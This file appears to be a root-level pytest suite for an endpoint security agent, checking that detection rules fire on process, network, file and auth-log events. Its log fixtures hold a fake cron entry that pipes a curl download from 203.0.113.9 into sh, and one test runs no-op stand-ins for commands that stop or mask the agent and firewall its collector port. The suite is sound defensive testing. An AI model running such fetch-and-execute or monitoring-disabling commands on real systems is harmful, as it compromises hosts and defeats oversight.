"""Rules in the public style find what they ask for in the rows that the agent makes of this kernel and its logs."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import luytre_rules
import pyarrow as pa
import pytest
import zstandard
from luytre_agent import _core
from luytre_agent.sources import files, logins, processes, sockets
from luytre_agent.sources.base import Source
from luytre_collector.detect.rules import load
from luytre_collector.detect.stream import Matcher
from luytre_common.errors import Unavailable

DEADLINE_S = 20.0
RULE = """title: "{0}: {1}"
id: 0c9c3b7e-51a4-4b0c-8a0f-2f6f3c1e7d{2:02}
logsource: {{{0}}}
detection:
  s: {{{1}}}
  condition: s
"""


def found(folder: Path, source: Source, act: Callable[[], object], *rules: tuple[str, str]) -> None:
    """Open the source, act, and wait until every rule has matched a row of it, as the collector runs them."""
    for number, (log_source, selection) in enumerate(rules):
        (folder / f"rule-{number}.yml").write_text(RULE.format(log_source, selection, number))
    loaded = load([folder])
    assert loaded.faults == loaded.notes == ()
    matcher = Matcher(loaded, time.time)
    missing = {rule.head.id: rule.head.title for rule in loaded.events}
    try:
        source.open()
    except Unavailable as error:
        if "carries no eBPF object" in error.reason or "/sys/kernel/btf" in error.reason:
            pytest.skip(error.reason)
        raise
    try:
        act()
        deadline = time.monotonic() + DEADLINE_S
        while missing:
            assert time.monotonic() < deadline, f"no row for {missing}"
            for batch in source.poll(0.2):
                body = zstandard.ZstdDecompressor().decompressobj().decompress(batch.body)
                for hit in matcher.matches(batch.table, pa.ipc.open_stream(body).read_all()):
                    missing.pop(hit, None)
    finally:
        source.close()


@pytest.mark.root
def test_of_a_process(tmp_path: Path) -> None:
    mark = f"luytre-{os.getpid()}"
    auditd = "product: linux, service: auditd"
    found(
        tmp_path,
        processes.Processes(processes.Config(batch_seconds=0.05)),
        lambda: subprocess.run(["/bin/echo", mark, "two words", "", "u+s", "5", "6", "7"], cwd="/usr", check=True),
        (auditd, f"type: EXECVE, a0|endswith: echo, a1: {mark}, a2|contains: 'o w', a3: '', a4: u+s, a7: 7, a8: null"),
        (auditd, f"type: SYSCALL, SYSCALL: execve, comm: echo, exe|endswith: /echo, uid: {os.getuid()}, a1: {mark}"),
        (auditd, f"type: PATH, name|endswith: /echo, cwd: /usr, proctitle|contains: {mark}"),
        (auditd.split(",")[0], f"proctitle|contains: {mark}"),
        (
            "category: process_creation, product: linux",
            f"Image|endswith: /echo, CommandLine|contains: {mark}, CurrentDirectory: /usr, User: root, LogonId: 0, "
            f"ParentImage: {os.path.realpath(sys.executable)}, ParentCommandLine|contains: py",
        ),
    )


@pytest.mark.root
def test_of_a_connection(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]

    def talk() -> None:
        with (
            socket.create_server(("127.0.0.1", port)) as server,
            socket.create_connection(("127.0.0.1", port)) as one,
            server.accept()[0] as other,
        ):
            one.sendall(b"x")
            assert other.recv(1) == b"x"

    image = os.path.realpath(sys.executable)
    ours = f"Image: {image}, DestinationIp: 127.0.0.1, DestinationPort: {port}, Protocol: tcp"
    found(
        tmp_path,
        sockets.Sockets(sockets.Config(batch_seconds=0.05), _core.Owners()),
        talk,
        ("category: network_connection, product: linux", f"{ours}, Initiated: 'true', User: root"),
        ("category: network_connection, product: linux", f"{ours}, Initiated: 'false'"),
    )


@pytest.mark.root
def test_of_a_file(tmp_path: Path) -> None:
    watched = tmp_path / "watched"
    watched.mkdir()
    config = files.Config(defaults=False, homes=False, paths=[str(watched)], fold_seconds=0.05, batch_seconds=0.05)
    by_us = f"TargetFilename: {watched}/new, Image: {os.path.realpath(sys.executable)}"

    def change() -> None:
        (watched / "old").write_text("x")
        (watched / "old").rename(watched / "new")
        (watched / "gone").write_text("x")
        time.sleep(0.3)  # what comes and goes at once is no change
        (watched / "gone").unlink()

    found(
        tmp_path,
        files.Files(config, None),
        change,
        ("category: file_event, product: linux", by_us),
        ("category: file_delete, product: linux", f"TargetFilename: {watched}/gone"),
        ("product: linux, service: auditd", f"type: PATH, nametype: CREATE, name: {watched}/new"),
        ("product: linux, service: auditd", f"type: PATH, nametype: DELETE, name: {watched}/gone"),
    )


def test_of_log_lines(tmp_path: Path) -> None:
    log, state = tmp_path / "auth.log", tmp_path / "state"
    log.touch()
    now = datetime.now().astimezone().isoformat()

    def write() -> None:
        with log.open("a") as file:
            for line in (
                "sudo: lan : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/usr/bin/id",
                "CRON[7]: (lan) CMD (curl -s http://203.0.113.9/x | sh)",
                "useradd[8]: new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/sh, from=none",
                "vsftpd[9]: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp rhost=",
                "sshd-session[10]: Accepted publickey for lan from 192.0.2.7 port 4711 ssh2: ED25519 SHA256:x",
            ):
                file.write(f"{now} host {line}\n")

    config = logins.Config(read="files", auth_logs=[log], wtmp=[], btmp=[], batch_seconds=0.05)
    found(
        tmp_path,
        logins.Logins(config, state),
        write,
        ("product: linux, service: sudo", "USER: '#-*', COMMAND: /usr/bin/id, TTY: pts/0"),
        ("product: linux, service: cron", "COMMAND|contains: '| sh'"),
        ("product: linux, service: auditd", "type: ADD_USER, user_target_name: eve"),
        ("product: linux, service: auditd", "type: USER_LOGIN, res: success, acct: lan, addr: 192.0.2.7"),
        ("product: linux, service: pam", "message|contains: vsftpd"),
        ("product: linux, service: auth", "comm: useradd, message|contains: UID=1001"),
    )


@pytest.mark.root
def test_of_commands_against_the_agent(tmp_path: Path) -> None:
    """Programs of the same names that do nothing, so that no agent is harmed."""
    commands = {
        "Agent Stopped by a Command": ["systemctl", "stop", "luytre-agent"],
        "Agent Disabled, Masked or Removed by a Command": ["systemctl", "mask", "--now", "luytre-agent.service"],
        "Firewall Rule Against the Collector's Port": [
            "iptables", "-A", "OUTPUT", "-p", "tcp", "--dport", "7071", "-j", "DROP",
        ],
    }  # fmt: skip
    for name in ("systemctl", "iptables"):
        shutil.copy(shutil.which("true") or "/bin/true", tmp_path / name)
    matcher = Matcher(load([luytre_rules.FOLDER]), time.time)
    titles = {rule.head.id: rule.head.title for rule in load([luytre_rules.FOLDER]).events}
    source = processes.Processes(processes.Config(batch_seconds=0.05))
    try:
        source.open()
    except Unavailable as error:
        pytest.skip(error.reason)
    missing = set(commands)
    try:
        for command in commands.values():
            subprocess.run([str(tmp_path / command[0]), *command[1:]], check=True)
        deadline = time.monotonic() + DEADLINE_S
        while missing:
            assert time.monotonic() < deadline, f"no row for {missing}"
            for batch in source.poll(0.2):
                body = zstandard.ZstdDecompressor().decompressobj().decompress(batch.body)
                rows = pa.ipc.open_stream(body).read_all()
                missing -= {titles[hit] for hit in matcher.matches(batch.table, rows) if hit in titles}
    finally:
        source.close()
